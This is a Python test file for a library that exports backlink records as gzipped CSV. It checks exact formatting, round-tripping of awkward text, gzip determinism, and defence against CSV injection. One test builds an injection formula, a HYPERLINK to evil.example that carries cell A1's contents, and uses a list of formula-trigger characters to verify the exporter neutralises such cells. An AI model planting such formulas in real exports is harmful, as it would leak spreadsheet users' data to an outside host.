"""Exports as CSV: read back by others, to the letter, and safe to open in a spreadsheet."""

import csv
import datetime as dt
import gzip
import io
import json
import re
import subprocess
from collections.abc import Iterable, Sequence
from pathlib import Path

import msgspec
import pyarrow as pa
import pyarrow.csv
import pytest
from hypothesis import given
from hypothesis import strategies as st

from inlink.contract.rows import Backlink
from inlink.exports.csv_gz import write_csv_gz

PLAIN = Backlink(
    url_from="https://blog.example/",
    url_to="https://shop.example/",
    title="A title",
    anchor="an anchor",
    alt=None,
    nofollow=False,
    image=False,
    image_source=None,
    inlink_rank=12,
    domain_inlink_rank=-1,
    first_seen=dt.date(2024, 2, 29),
    last_visited=dt.date(2026, 1, 1),
)

TEXTS = ["title", "anchor", "image_source", "url_from", "url_to"]

NASTY = [
    'said "hello"',
    "a, b; c\td",
    "two\r\nlines",
    "a\nb",
    "a\rb",
    " spaces ",
    "",
    '"',
    "'",
    "日本語 😀 é",
    "\ufeffmark",
    "NULL",
    "#N/A",
    "a\0b",
    "\u2028",
]
"""Texts that spoil carelessly written CSV, none of them a formula."""

# OWASP, "CSV Injection": a cell that begins with one of these may be run.
DANGEROUS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]  # noqa: RUF001


def written(*batches: Sequence[Backlink]) -> bytes:
    file = io.BytesIO()
    assert write_csv_gz(file, batches) == sum(map(len, batches))
    return file.getvalue()


def text_of(rows: Iterable[Backlink]) -> str:
    return gzip.decompress(written(list(rows))).decode()


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def with_text(text: str) -> Backlink:
    return msgspec.structs.replace(PLAIN, **dict.fromkeys(TEXTS, text))


def test_the_columns_are_named_as_in_json() -> None:
    header, row = read(text_of([PLAIN]))
    in_json = json.loads(msgspec.json.encode(PLAIN))
    assert header == list(in_json)
    cells = dict(zip(header, row, strict=True))
    for name, value in in_json.items():
        expected = {None: "", True: "true", False: "false"}.get(value, value)
        assert cells[name] == str(expected), name


def test_to_the_letter() -> None:
    assert text_of([msgspec.structs.replace(PLAIN, title='a "b", c', nofollow=True)]) == (
        "url_from,url_to,title,anchor,alt,nofollow,image,image_source,inlink_rank,"
        "domain_inlink_rank,first_seen,last_visited\r\n"
        'https://blog.example/,https://shop.example/,"a ""b"", c",an anchor,,true,false,,12,-1,'
        "2024-02-29,2026-01-01\r\n"
    )


def test_no_rows_are_a_header_alone() -> None:
    text = text_of([])
    assert written() == written([])
    assert text.count("\r\n") == 1
    assert text.endswith("last_visited\r\n")


def test_whatever_is_in_a_text_comes_back() -> None:
    rows = [with_text(text) for text in NASTY]
    header, *records = read(text_of(rows))
    for name in TEXTS:
        assert [record[header.index(name)] for record in records] == NASTY


def test_every_record_ends_in_crlf_and_no_text_is_changed_for_it() -> None:
    text = text_of([with_text(text) for text in NASTY])
    unquoted = re.sub(r'"(?:[^"]|"")*"', "", text)
    assert re.findall(r"\r\n|\r|\n", unquoted) == ["\r\n"] * (len(NASTY) + 1)


def test_arrow_reads_the_same() -> None:
    texts = [text for text in NASTY if "\0" not in text]
    options = pyarrow.csv.ParseOptions(newlines_in_values=True)
    types: dict[str, pa.DataType] = {name: pa.string() for name in Backlink.__struct_fields__}
    types |= {"nofollow": pa.bool_(), "image": pa.bool_(), "inlink_rank": pa.int32()}
    types |= {"domain_inlink_rank": pa.int32(), "first_seen": pa.date32()}
    table = pyarrow.csv.read_csv(
        io.BytesIO(gzip.decompress(written([with_text(text) for text in texts]))),
        parse_options=options,
        convert_options=pyarrow.csv.ConvertOptions(column_types=types),
    )
    assert table.column_names == list(Backlink.__struct_fields__)
    assert table["title"].to_pylist() == texts
    assert set(table["first_seen"].to_pylist()) == {dt.date(2024, 2, 29)}
    assert set(table["domain_inlink_rank"].to_pylist()) == {-1}
    assert set(table["nofollow"].to_pylist()) == {False}


@pytest.mark.parametrize("start", DANGEROUS)
@pytest.mark.parametrize("name", TEXTS)
def test_no_text_is_run_as_a_formula(start: str, name: str) -> None:
    text = f'{start}HYPERLINK("https://evil.example/?"&A1,"x")'
    header, row = read(text_of([msgspec.structs.replace(PLAIN, **{name: text})]))
    assert row[header.index(name)] == f"'{text}"


def test_numbers_and_dates_are_left_alone() -> None:
    header, row = read(text_of([PLAIN]))
    cells = dict(zip(header, row, strict=True))
    assert cells["domain_inlink_rank"] == "-1"
    assert cells["first_seen"] == "2024-02-29"


@given(st.lists(st.lists(st.text(st.characters(codec="utf-8"), max_size=8), max_size=4)))
def test_any_text_comes_back_whatever_the_batches(batches: list[list[str]]) -> None:
    data = written(*([with_text(text) for text in batch] for batch in batches))
    header, *records = read(gzip.decompress(data).decode())
    texts = [text for batch in batches for text in batch]
    guarded = [f"'{text}" if text.startswith(tuple(DANGEROUS)) else text for text in texts]
    assert [record[header.index("title")] for record in records] == guarded


def test_the_same_rows_are_the_same_bytes_and_say_nothing_of_when() -> None:
    rows = [with_text(text) for text in NASTY]
    data = written(rows)
    assert data == written(rows)
    assert data[:4] == b"\x1f\x8b\x08\x00"  # RFC 1952: gzip, deflate, no name, no comment
    assert data[4:8] == bytes(4)  # no time


def test_the_batches_leave_no_trace() -> None:
    rows = [with_text(text) for text in NASTY]
    assert gzip.decompress(written(rows)) == gzip.decompress(written(*([row] for row in rows)))


def test_gzip_finds_the_file_sound(tmp_path: Path) -> None:
    path = tmp_path / "export.csv.gz"
    path.write_bytes(written([PLAIN] * 1000, [PLAIN] * 1000))
    subprocess.run(["gzip", "--test", path], check=True)
    done = subprocess.run(["gzip", "-dc", path], check=True, capture_output=True)
    assert done.stdout.count(b"\r\n") == 2001
